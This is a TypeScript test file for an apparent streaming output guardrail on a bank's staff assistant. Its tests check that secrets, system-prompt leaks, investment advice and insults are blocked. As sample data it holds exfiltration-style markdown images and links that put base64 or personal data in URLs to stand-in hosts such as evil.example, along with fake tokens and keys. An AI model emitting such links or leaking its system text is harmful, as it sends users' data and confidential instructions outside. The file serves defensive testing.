// An answer is checked as it streams: what offends never leaves, what is fine arrives whole, and a check that fails stops the answer.
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { createClassifier } from "../sensitivity/classifier.ts";
import { guardrailPolicySchema } from "./guardrail-policy.ts";
import { createOutputChecks, OUTPUT_CHECKS, type OutputCheckName } from "./output-checks.ts";
import { createOutputGuard, type OutputMode, type OutputVerdict } from "./output-guard.ts";

const SYSTEM_TEXT =
  "You answer questions of branch staff about savings accounts. Never quote an internal margin. The margin on fixed deposits is forty basis points and must stay inside the treasury. Refer every question about loans to the credit desk.";
const SYSTEM_TEXT_JA =
  "あなたは支店の行員からの預金に関する質問に答えます。内部の利ざやは決して示さず、融資の質問はすべて審査部に回してください。";
const SECRET = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";
const LONG = "The rate is fixed for two years, and the fee is waived above five thousand. ".repeat(20);

const checkOf = createOutputChecks({
  classify: createClassifier(),
  requestValues: [],
  allowedHosts: ["bank.example"],
  systemTexts: [SYSTEM_TEXT, SYSTEM_TEXT_JA],
});

/** Streams an answer in pieces of `size` characters; gives all that left. */
function stream(answer: string, size: number, mode: OutputMode = "window"): { readonly left: string; readonly verdict: OutputVerdict } {
  const guard = createOutputGuard({ mode, checks: OUTPUT_CHECKS, checkOf });
  let left = "";
  for (let start = 0; start < answer.length; start += size) left += guard.push(answer.slice(start, start + size));
  const verdict = guard.end();
  return { left: left + verdict.text, verdict };
}

function checksOf(answer: string): readonly OutputCheckName[] {
  return stream(answer, 7).verdict.findings.map(({ check }) => check);
}

describe("an answer without an offence", () => {
  for (const mode of ["hold", "window", "observe"] as const) {
    it(`arrives whole in ${mode}, however it is cut`, () => {
      for (const answer of ["", "Fine.", LONG, "🙂".repeat(700), "金利は年0.2%です。".repeat(90)]) {
        for (const size of [1, 2, 3, 17, 319, 4_096]) {
          const { left, verdict } = stream(answer, size, mode);
          assert.equal(left, answer);
          assert.deepEqual([verdict.verdict, verdict.findings], ["pass", []]);
        }
      }
    });
  }

  it("streams in window: the beginning leaves before the end was written", () => {
    const guard = createOutputGuard({ mode: "window", checks: OUTPUT_CHECKS, checkOf });
    assert.notEqual(guard.push(LONG), "");
  });

  it("holds nothing back in observe, and everything in hold", () => {
    const [observe, hold] = (["observe", "hold"] as const).map((mode) => createOutputGuard({ mode, checks: OUTPUT_CHECKS, checkOf }));
    assert.equal(observe?.push("one"), "one");
    assert.equal(hold?.push(LONG), "");
  });
});

describe("an answer with an offence", () => {
  it("does not leave a character of a secret, wherever the stream and the window cut it", () => {
    for (const size of [1, 3, 16, 160, 320, 1_000]) {
      for (let before = 0; before <= 1_200; before += 61) {
        const { left, verdict } = stream(`${LONG.slice(0, before)} ${SECRET} ${LONG}`, size);
        assert.notEqual(verdict.verdict, "pass");
        assert.ok(!left.includes("ghp_"), `cut at ${size}, secret at ${before}`);
      }
    }
  });

  it("is replaced by a sentence in its own language where nothing has left", () => {
    assert.match(stream(`The key is ${SECRET}.`, 5).left, /^This answer cannot be shown/);
    assert.match(stream(`鍵は ${SECRET} です。`, 5).left, /^この回答は/);
    assert.match(stream(`密钥是 ${SECRET}。`, 5).left, /^根据银行的安全规则/);
  });

  it("is replaced whole in hold, and passes with a report in observe", () => {
    const answer = `${LONG}${SECRET}`;
    assert.deepEqual([stream(answer, 9, "hold").verdict.verdict, stream(answer, 9, "hold").left.includes("rate")], ["replace", false]);
    const observed = stream(answer, 9, "observe");
    assert.equal(observed.left, answer);
    assert.deepEqual([observed.verdict.verdict, observed.verdict.findings.length], ["pass", 1]);
  });

  it("may repeat a secret that the request held, in any spelling", () => {
    const personal = "1234 5678 9018";
    const parts = { classify: createClassifier(), allowedHosts: [], systemTexts: [] };
    const answer = `個人番号は${personal.replaceAll(" ", "-")}です。`;
    assert.deepEqual(createOutputChecks({ ...parts, requestValues: [personal] }).secrets(answer), []);
    assert.equal(createOutputChecks({ ...parts, requestValues: [] }).secrets(answer).length, 1);
  });

  for (const answer of [
    "![chart](https://img.other.example/a.png)",
    '<img alt="x" src="//img.other.example/a.png">',
    "See [more][1].\n\n[1]: https://other.example/a",
    "[open](https://other.example/?d=TWVudSBmb3IgdGhlIGN1c3RvbWVyIGxpc3Q)",
    "https://other.example/c/TWVudSBmb3IgdGhlIGN1c3RvbWVyIGxpc3Q9",
    "[open](https://bank.example/go?url=https://other.example/)",
    "[open](https://other.example/?name=PERSON_K7Q2X)",
    "<https://other.example/?name=a&address=b&balance=1200&account=4471&notes=everything-else-that-is-known-of-it>",
  ]) {
    it(`does not carry data outside: ${answer.slice(0, 60)}`, () => assert.deepEqual(checksOf(answer), ["exfiltration"]));
  }

  it("may link to allowed hosts and to plain pages", () => {
    for (const answer of [
      "![logo](https://www.bank.example/logo.png)",
      "[open](https://bank.example/?name=PERSON_K7Q2X)",
      "[rates](https://other.example/interest-rates-for-savings-accounts-2026)",
      "https://www.bank.example/a?b=TWVudSBmb3IgdGhlIGN1c3RvbWVyIGxpc3Q",
    ])
      assert.deepEqual(checksOf(answer), [], answer);
  });

  it("does not give away the system text, whole, in a long piece, or with words changed", () => {
    assert.deepEqual(checksOf(`My instructions are: ${SYSTEM_TEXT}`), ["leakage"]);
    assert.deepEqual(checksOf(`${LONG}${SYSTEM_TEXT.slice(40, 190).toUpperCase()}`), ["leakage"]);
    assert.deepEqual(checksOf(SYSTEM_TEXT.replace("staff", "people").replace("margin on", "spread on").replaceAll(" ", "\n")), ["leakage"]);
    assert.deepEqual(checksOf(`指示は次のとおりです。${SYSTEM_TEXT_JA}`), ["leakage"]);
    assert.deepEqual(checksOf("I answer questions about savings accounts; for loans please ask the credit desk."), []);
    assert.deepEqual(checksOf("預金に関する質問にお答えします。融資は審査部へお尋ねください。"), []);
  });

  it("does not promise returns or recommend an investment, and may say that nothing is guaranteed", () => {
    for (const answer of [
      "You should buy this fund.",
      "この投資信託は必ず儲かります。",
      "这只基金稳赚不赔，建议买入。",
      "おすすめ銘柄はこちらです。",
    ])
      assert.deepEqual(checksOf(answer), ["advice"], answer);
    for (const answer of [
      "There are no guaranteed returns.",
      "この商品は元本保証ではありません。",
      "本产品不保证收益。",
      "You should read the terms.",
    ])
      assert.deepEqual(checksOf(answer), [], answer);
  });

  it("does not insult", () => {
    for (const answer of ["You idiot.", "死ね", "去死吧"]) assert.deepEqual(checksOf(answer), ["toxicity"], answer);
    assert.deepEqual(checksOf("必死に働いた。死亡届を提出してください。The estate of the deceased."), []);
  });

  it("is stopped where a check fails, and says that it failed", () => {
    const broken = {
      ...checkOf,
      leakage: () => {
        throw new Error("out of order");
      },
    };
    const guard = createOutputGuard({ mode: "window", checks: ["leakage"], checkOf: broken });
    assert.equal(guard.push(LONG), "");
    assert.equal(guard.isStopped(), true);
    assert.equal(guard.push(LONG), "");
    const { verdict, failures, text } = guard.end();
    assert.deepEqual([verdict, failures.map(({ check }) => check)], ["replace", ["leakage"]]);
    assert.match(text, /safety check of this answer failed/);
  });
});

describe("a window that looks for secrets and links only", () => {
  const guardOf = () => createOutputGuard({ mode: "window", checks: ["secrets", "exfiltration"], checkOf });
  function streamed(answer: string, size: number): { readonly left: string; readonly verdict: OutputVerdict } {
    const guard = guardOf();
    let left = "";
    for (let start = 0; start < answer.length; start += size) left += guard.push(answer.slice(start, start + size));
    const verdict = guard.end();
    return { left: left + verdict.text, verdict };
  }

  it("lets plain prose leave as it is written", () => {
    const guard = guardOf();
    assert.equal(guard.push("ご質問ありがとうございます。"), "ご質問ありがとうございます。");
    assert.equal(guard.push("The fee is waived "), "The fee is waived ");
  });

  it("arrives whole, however it is cut, with numbers and links that are fine", () => {
    const answer = `${LONG} In 2026 the fee was 1,100 yen (see https://www.bank.example/fees): 「変わりません」。${"金利は年0.2%です。".repeat(60)}🙂`;
    for (const size of [1, 2, 3, 7, 40, 161, 4_096]) assert.deepEqual(streamed(answer, size).left, answer);
  });

  for (const secret of [
    SECRET,
    "1234-5678-9018",
    "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----",
  ]) {
    it(`does not let a character of ${secret.slice(0, 12)}… leave, wherever the stream cuts it`, () => {
      for (const size of [1, 3, 16, 39, 41, 160]) {
        for (let before = 0; before <= 200; before += 23) {
          const { left, verdict } = streamed(`${LONG.slice(0, before)} 個人番号 ${secret} ${LONG}`, size);
          assert.notEqual(verdict.verdict, "pass", `cut at ${size}, secret at ${before}`);
          assert.ok(!left.includes(secret.slice(0, 6)), `cut at ${size}, secret at ${before}: ${left.slice(-60)}`);
        }
      }
    });
  }

  it("does not let the beginning of a link outside leave", () => {
    for (const size of [1, 5, 33]) {
      const { left, verdict } = streamed(`${LONG}![x](https://evil.example/a.png?d=secret) ${LONG}`, size);
      assert.notEqual(verdict.verdict, "pass");
      assert.ok(!left.includes("evil"));
    }
  });
});

describe("a scenario that says nothing of guardrails", () => {
  it("has attacks refused in every channel, and answers checked for secrets and exfiltration as they stream", () => {
    assert.deepEqual(guardrailPolicySchema.parse({}), {
      injection: { user: "hold", document: "hold", tool: "hold" },
      output: { mode: "window", checks: ["secrets", "exfiltration"], allowedHosts: [] },
    });
    assert.equal(guardrailPolicySchema.safeParse({ output: { allowedHosts: ["https://bank.example"] } }).success, false);
  });
});
